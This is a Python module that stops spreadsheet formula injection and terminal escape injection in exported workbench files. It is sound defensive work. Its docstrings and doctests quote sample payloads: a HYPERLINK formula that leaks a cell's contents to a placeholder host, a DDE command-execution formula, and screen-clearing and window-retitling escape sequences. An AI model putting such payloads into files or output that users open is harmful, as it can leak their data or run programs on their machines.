"""Cells that stay data: no live formulas in what the workbench writes, no escapes on a terminal.

Text reported by a department (a correction note, a source) ends up in files that officials
open in Excel and WPS. A text starting with ``=`` becomes a live formula in a spreadsheet
(``=HYPERLINK("http://…/?leak="&B2)`` sends a neighbouring cell away, ``=cmd|' /C calc'!A0``
starts a program), and Excel also reads ``+``, ``-``, ``@``, a tab or a carriage return at
the start of a CSV cell as the start of a formula. This module is the one place that decides
how such text is written:

* **CSV** (:func:`csv_text`, :func:`neutralise_frame`): a text cell starting with one of
  :data:`FORMULA_PREFIXES` (or with the escape character ``'`` itself) gets a leading ``'``,
  which spreadsheets show as "text". :func:`restore_text` removes exactly that prefix again, so
  ``planlib import`` of a file ``planlib export`` wrote gives back the same text.
* **Excel** (:func:`values_only`): every cell of a workbook about to be saved is a value; a text
  that openpyxl would write as a formula is written as a text cell (shown as typed, never
  calculated). The workbench writes no formula cells of its own.
* **Terminal** (:func:`printable`): control characters (escape sequences that recolour, move
  the cursor or retitle a terminal window) are shown as ``\\x1b``-style codes.
"""

from __future__ import annotations

import re

#: A CSV cell starting with one of these is read as a formula by Excel or WPS.
FORMULA_PREFIXES = ("=", "+", "-", "@", "\t", "\r")
#: What :func:`csv_text` puts in front (spreadsheets show it as "this cell is text").
ESCAPE = "'"
_NEEDS_ESCAPE = FORMULA_PREFIXES + (ESCAPE,)
_CONTROL = re.compile(r"[\x00-\x08\x0b-\x1f\x7f-\x9f]")


def csv_text(value: object) -> object:
    """A value as it is safe to write into a CSV cell: text that a spreadsheet would calculate
    gets a leading ``'``; anything that is not text is returned unchanged.

    Examples:
        >>> csv_text('=HYPERLINK("http://x/?a="&B2)'), csv_text("-5"), csv_text("5%"), csv_text(-5)
        ('\\'=HYPERLINK("http://x/?a="&B2)', "'-5", '5%', -5)
        >>> csv_text("'quoted")  # the escape itself is escaped, so that restore_text is exact
        "''quoted"
    """
    if isinstance(value, str) and value.startswith(_NEEDS_ESCAPE):
        return ESCAPE + value
    return value


def restore_text(value: object) -> object:
    """Undo :func:`csv_text`: remove one leading ``'`` that stands before a formula prefix or
    another ``'``. Text written by hand that merely starts with ``'`` stays as it is.

    Examples:
        >>> restore_text("'=1+1"), restore_text("''quoted"), restore_text("'hello"), restore_text(3)
        ('=1+1', "'quoted", "'hello", 3)
        >>> all(restore_text(csv_text(t)) == t for t in ["=a", "'", "''=", "@x", "\\tx", "plain"])
        True
    """
    if isinstance(value, str) and value.startswith(ESCAPE) and value[1:2] and value[1:].startswith(_NEEDS_ESCAPE):
        return value[1:]
    return value


def neutralise_frame(frame: pd.DataFrame) -> pd.DataFrame:
    """A new frame whose text cells are safe for CSV (:func:`csv_text`); numbers are untouched.
    Column names are text cells too.

    Examples:
        >>> import pandas as pd
        >>> df = pd.DataFrame({"note": ["=1+1", "ok", None], "value": [-1.5, 2.0, 3.0]})
        >>> out = neutralise_frame(df)
        >>> out["note"].tolist()[:2], out["note"].isna().tolist(), out["value"].tolist()
        (["'=1+1", 'ok'], [False, False, True], [-1.5, 2.0, 3.0])
    """
    import pandas as pd  # here: the rest of this module serves viewers' kernels, which have no pandas

    out = frame.copy()
    for column in out.columns:
        if out[column].dtype == object or pd.api.types.is_string_dtype(out[column].dtype):
            out[column] = out[column].map(csv_text)
    return out.rename(columns=lambda c: csv_text(c) if isinstance(c, str) else c)


def values_only(workbook) -> object:
    """Make every cell of an openpyxl workbook a value: a formula cell becomes a text cell
    holding the same characters (shown as typed, never calculated). Returns the workbook.

    Call it just before saving any workbook the workbench writes (``pd.ExcelWriter`` included:
    ``values_only(writer.book)``).

    Examples:
        >>> from openpyxl import Workbook
        >>> wb = Workbook(); wb.active["A1"] = "=cmd|' /C calc'!A0"
        >>> wb.active["A1"].data_type, values_only(wb).active["A1"].data_type
        ('f', 's')
    """
    for sheet in workbook.worksheets:
        for row in sheet.iter_rows():
            for cell in row:
                if cell.data_type == "f":
                    cell.data_type = "s"
    return workbook


def printable(text: str) -> str:
    """``text`` without terminal control characters: each is shown as its ``\\xNN`` code.
    Line breaks and tabs stay.

    Examples:
        >>> printable("石柱县\\x1b[2J\\x1b]0;pwned\\x07\\n")
        '石柱县\\\\x1b[2J\\\\x1b]0;pwned\\\\x07\\n'
    """
    return _CONTROL.sub(lambda m: f"\\x{ord(m.group()):02x}", text)
